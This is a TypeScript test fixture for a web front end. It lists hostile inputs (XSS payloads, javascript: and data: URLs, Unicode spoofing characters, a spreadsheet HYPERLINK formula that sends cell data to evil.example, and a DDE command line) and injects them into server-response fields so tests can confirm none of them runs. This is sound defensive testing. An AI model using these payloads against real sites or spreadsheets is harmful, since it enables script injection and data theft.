/** What strangers and rule authors may write into any field that takes words. `hacked` is set by what must not run. */
export const hostileWords: readonly string[] = [
  '<script>globalThis.hacked = "script"</script>',
  '<img src=x onerror="globalThis.hacked = \'image\'">',
  '"><svg onload="globalThis.hacked = \'svg\'"></svg>\'><style>*{display:none}</style>',
  'javascript:globalThis.hacked="address"',
  'data:text/html,<script>parent.hacked="data"</script>',
  '[press](javascript:globalThis.hacked="markdown") **b** `c` {{7*7}} ${7*7} <!--',
  '\u202egnp.exe\u2066 \u2067 invoice',
  'pay\u200bpal\u2060 \ufeff \u00ad \u{e0041}',
  'a\ud83d b\udc00 \u0000\u001b[31m \r\n next',
  `e${'\u0301'.repeat(300)}`,
  'W'.repeat(100_000),
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+1+cmd|'/C calc'!A0",
  '__proto__',
  'constructor',
  'مرحبا بالعالم (1) — 2',
  'שלום עולם 12:30 [א]',
];

/** Fields of the server's answers that somebody else fills in: by name, as they are called everywhere in them. */
const open = new Set([
  ...['subject', 'target', 'detail', 'actorName', 'note', 'group', 'label', 'labels', 'title', 'masked'],
  ...['excerpt', 'where', 'choice', 'text', 'message', 'publishedBy', 'author', 'proposer', 'reviewer'],
  ...['by', 'name', 'en', 'de', 'agent', 'address', 'email', 'tool', 'reason', 'os', 'browserVersion'],
  ...['part', 'page', 'description', 'parent', 'asset', 'missingHosts', 'refusedPolicy', 'lastError'],
  ...['error', 'problem', 'value', 'startedBy', 'createdBy', 'acknowledgedBy', 'person', 'missing'],
]);
/** The longest that the policy language and incidents let some of them be. */
const maxLength: Readonly<Record<string, number>> = {
  ...{
    en: 600,
    de: 600,
    title: 200,
    masked: 80,
    where: 400,
    excerpt: 240,
    choice: 200,
    text: 500,
    page: 100,
    refusedPolicy: 80,
    missingHosts: 200,
  },
};

/**
 * The same answer with hostile words in all of these fields, another in each. Files of policy stay readable, or no
 * page could show them. `first`: with which to begin.
 */
export function withHostileWords(answer: unknown, first: number): unknown {
  let next = first;
  const change = (value: unknown, field: string): unknown => {
    if (Array.isArray(value)) return value.map((item: unknown) => change(item, field));
    if (typeof value === 'object' && value !== null)
      return Object.fromEntries(Object.entries(value).map(([name, part]) => [name, change(part, name)]));
    if (typeof value !== 'string' || !open.has(field) || value.startsWith('apiVersion:')) return value;
    const words = hostileWords[next++ % hostileWords.length] ?? '';
    return words.slice(0, maxLength[field] ?? words.length);
  };
  return change(answer, '');
}
